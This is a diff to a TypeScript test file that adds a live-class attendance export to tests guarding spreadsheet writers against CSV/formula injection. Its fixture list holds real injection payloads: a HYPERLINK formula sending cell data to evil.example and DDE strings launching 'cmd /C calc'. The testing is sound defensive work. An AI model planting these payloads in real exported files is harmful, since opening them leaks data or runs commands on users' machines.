@@ -15,6 +15,9 @@ import { buildDirectoryTemplateXlsx } from '../../src/lib/server/orgs/directory-
 import { buildNoticeXlsx } from '../../src/lib/server/supervision/notice-xlsx.ts';
 
 // OWASP CSV injection: text beginning with = + - @ tab or CR must not reach a spreadsheet as is.
+import { attendanceXlsx } from '../../src/lib/server/live/attendance-export.ts';
+import type { ConsoleView } from '../../src/lib/server/live/console.ts';
+import type { LiveClassRow } from '../../src/lib/server/live/live.repository.ts';
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 const h = (i: number) => HOSTILE[i % HOSTILE.length]!;
 const DANGEROUS = /^[=+\-@\t\r]/;
@@ -103,6 +106,15 @@ const archive = (): { summary: EnterpriseArchive; details: PersonArchive[] } => 
 
 // One entry per export writer; the guard below fails when a writer is added without one.
 const EXPORTS: Record<string, { file: string; build: () => Promise<Buffer> }> = {
+	'live class attendance': {
+		file: 'src/lib/server/live/attendance-export.ts',
+		build: () => {
+			const at = new Date('2026-06-01T01:00:00Z');
+			const cls = { id: 1, owner_org_id: 1, title: h(0), lecturer_user_id: 1, lecturer_name: h(1), starts_at: at, ends_at: at, audience: {}, credit_hours: 1, signin_before_minutes: 0, signin_after_minutes: 0, replay_rule: 'live_only', playback_name: 'x', replay_file: null, replay_seconds: null, cancelled_at: null, created_at: at } as unknown as LiveClassRow;
+			const attendance = HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumber: '110101199003070011', orgName: h(i + 1), roleCategory: h(i + 2), signedInAt: null, late: false, liveMinutes: 1, replayMinutes: 0, creditedHours: 0, rollCallsAnswered: 0, watching: false }));
+			return attendanceXlsx(cls, { phase: 'ended', streamUp: false, streamMinutes: 0, watching: 0, invited: 0, attended: 0, rollCalls: 0, capHours: 1, keyIssued: null, attendance, questions: [] } as unknown as ConsoleView);
+		}
+	},
 	'question bank export': { file: 'src/lib/server/question-bank/excel.ts', build: () => exportQuestionsXlsx({ code: 'inj', name: h(0) }, HOSTILE.map((_, i) => question(i))) },
 	'question bank template': { file: 'src/lib/server/question-bank/excel.ts', build: () => buildTemplateXlsx() },
 	'staff template (special operations from the database)': {
